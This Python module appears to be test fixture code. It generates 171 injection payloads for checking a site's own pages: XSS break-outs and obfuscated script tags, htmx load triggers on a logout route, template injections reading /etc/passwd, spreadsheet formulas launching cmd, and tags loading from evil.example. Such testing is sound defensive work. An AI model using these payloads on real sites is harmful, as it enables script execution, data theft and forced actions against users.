"""Words that try to become code, by the place in a page that they aim at.

Each would set ``window.ran`` or open a dialog, if it ran. Written here, from the grammar of HTML,
of URLs, and of what our own pages read: htmx, Jinja2, JSON in an attribute.
"""

from __future__ import annotations

_RUN = "window.ran=1"
BREAK_OUT = {
    "text": "",
    "attribute": '">',
    "attribute in single quotes": "'>",
    "field": "</textarea></option></select>",
    "title": "</title>",
    "script": "</script>",
    "style": "</style>",
    "comment": "--><",
    "preformatted": "</blockquote></code></dd>",
}
CODE = {
    "script": f"<script>{_RUN}</script>",
    "picture": f"<img src=x onerror={_RUN}>",
    "drawing": f"<svg/onload={_RUN}>",
    "animated drawing": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "link": f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>klik</a>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "field": f"<input autofocus onfocus={_RUN}>",
    "sound": f"<audio src=x onerror={_RUN}></audio>",
    "base": "<base href=https://evil.example/>",
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "form": "<form action=https://evil.example><button>Verstuur</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "object": f"<object data=javascript:{_RUN}></object>",
    "htmx": f"<p hx-get=/uitloggen hx-trigger=load hx-on:load={_RUN} data-hx-get=/x>x</p>",
}
OTHERS = (
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"' onfocus={_RUN} autofocus x='",
    '" hx-get="/uitloggen" hx-trigger="load" x="',
    '" style="background:url(https://evil.example/x)" x="',
    f"javascript:{_RUN}",
    f"JaVaScRiPt\t:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "//evil.example/x.js",
    "{{7*7}}{{config}}{{constructor.constructor('window.ran=1')()}}",
    "{% include '/etc/passwd' %}{% raise %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    f'{{"x":"</script><script>{_RUN}</script>"}}',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"＜script＞{_RUN}＜/script＞",
    f"‹img src=x onerror={_RUN}›",
    f"\u202e<img src=x onerror={_RUN}>",
    f"<scr\u200bipt>{_RUN}</scr\u200bipt>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    f"<<script>{_RUN}//<</script>",
    f"<img/src=x/onerror={_RUN}//",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<template><script>{_RUN}</script></template><slot>",
    f"[klik](javascript:{_RUN})",
    f'![x](x" onerror="{_RUN})',
    f"<javascript:{_RUN}>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '#eval("x") #read("/etc/passwd") $ x $ *dik*',
)
PAYLOADS = tuple(start + code for start in BREAK_OUT.values() for code in CODE.values()) + OTHERS
"""Every one of them once: 171."""


def in_pieces(characters: int) -> list[str]:
    """Return all of them as messages of at most so many characters, one payload a line."""
    pieces = [""]
    for payload in PAYLOADS:
        if len(pieces[-1]) + len(payload) + 1 > characters:
            pieces.append("")
        pieces[-1] += payload.replace("\n", " ") + "\n"
    return [piece.strip() for piece in pieces]
